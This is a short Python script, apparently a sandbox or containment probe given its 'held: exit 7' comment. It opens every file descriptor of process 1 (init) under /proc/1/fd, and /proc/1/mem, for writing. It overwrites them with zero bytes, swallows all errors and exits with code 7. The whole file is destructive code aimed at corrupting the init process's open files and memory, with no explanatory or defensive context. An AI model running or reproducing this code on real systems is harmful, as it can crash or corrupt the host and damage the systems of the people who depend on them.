# held: exit 7
import os
for path in ('/proc/1/fd', '/proc/1/mem'):
    try:
        names = [f'{path}/{name}' for name in os.listdir(path)] if path.endswith('fd') else [path]
    except OSError:
        continue
    for name in names:
        try:
            place = os.open(name, os.O_WRONLY | os.O_NONBLOCK)
            os.write(place, b'0' * 16)
        except OSError:
            pass
os._exit(7)
